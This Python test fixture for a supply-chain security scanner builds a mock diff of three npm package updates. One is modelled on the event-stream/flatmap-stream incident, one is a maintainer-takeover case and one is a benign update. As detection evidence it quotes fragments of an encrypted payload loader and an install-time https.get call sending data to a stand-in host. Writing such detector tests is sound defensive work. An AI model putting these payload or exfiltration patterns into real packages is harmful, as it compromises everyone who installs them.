"""A fixed diff, built by hand (fixed times, fixed scores), for the formats' golden and structural tests:
the event-stream 3.3.5 → 3.3.6 shape, a maintainer-account takeover shape and a benign minor update."""

from __future__ import annotations

from datetime import UTC, datetime

from airlock.diff.model import (
    Attention,
    BinChange,
    ChangeKind,
    DependencyAdded,
    DiffDocument,
    FileChange,
    MaintainersChange,
    PackageChange,
    ScriptChange,
)
from airlock.model import Evidence, Finding, Severity, Verdict

NOW = datetime(2018, 11, 26, 12, 0, tzinfo=UTC)
"""When the comment is rendered: dependency ages are counted from here."""

FLATMAP = DependencyAdded(
    name="flatmap-stream",
    spec="^0.1.0",
    version="0.1.1",
    verdict=Verdict.BLOCK,
    findings=(
        Finding(
            "eval-decoded-payload",
            Severity.CRITICAL,
            "Decrypts or decodes a payload and runs it as code.",
            (
                Evidence("index.min.js", 1, 14, "crypto.createDecipher('aes256', n)"),
                Evidence("index.min.js", 1, 90, "module._compile(o, '')"),
            ),
        ),
        Finding(
            "package-keyed-payload",
            Severity.HIGH,
            "The payload's key is the depending package's description: it only runs inside that package.",
            (Evidence("index.min.js", 1, 40, "process.env.npm_package_description"),),
        ),
    ),
    capabilities=("crypto.createDecipher", "dynamic", "process.env"),
    lines=1,
    first_published=datetime(2018, 9, 9, 8, 0, tzinfo=UTC),
    version_published=datetime(2018, 9, 9, 8, 0, tzinfo=UTC),
    maintainers=("right9ctrl",),
)

EVENT_STREAM = PackageChange(
    "event-stream",
    "3.3.5",
    "3.3.6",
    Verdict.BLOCK,
    Attention.HIGH,
    1553,
    dependencies_added=(FLATMAP,),
    maintainers_changed=MaintainersChange(added=("right9ctrl",)),
    files=(
        FileChange("index.js", ChangeKind.CHANGED, 160, 208, 1),
        FileChange("package.json", ChangeKind.CHANGED, 412, 447, 1),
    ),
)

TAKEOVER = PackageChange(
    "ui-widget",
    "2.0.1",
    "2.0.2",
    Verdict.REVIEW,
    Attention.HIGH,
    500,
    capabilities_added={
        "https.get": (
            Evidence("setup.js", 2, 1, "https.get('https://telemetry.example.invalid/v?p=' + encodeURI…"),
        ),
    },
    scripts_changed=(ScriptChange("postinstall", ChangeKind.ADDED, None, "node setup.js"),),
    files=(
        FileChange("package.json", ChangeKind.CHANGED, 300, 345, 1),
        FileChange("setup.js", ChangeKind.ADDED, None, 141, 2),
    ),
    bin_changes=(BinChange("widget", ChangeKind.ADDED, None, "setup.js"),),
    reasons=("the update adds install-time code (postinstall) and a risky capability (https.get)",),
)

BENIGN = PackageChange(
    "calm-pad",
    "1.2.0",
    "1.3.0",
    Verdict.ALLOW,
    Attention.LOW,
    3,
    files=(
        FileChange("index.js", ChangeKind.CHANGED, 72, 121, 1),
        FileChange("lib/right.js", ChangeKind.ADDED, None, 71, 1),
        FileChange("package.json", ChangeKind.CHANGED, 120, 120, 1),
    ),
)


def sample_diff() -> DiffDocument:
    return DiffDocument((EVENT_STREAM, TAKEOVER, BENIGN))
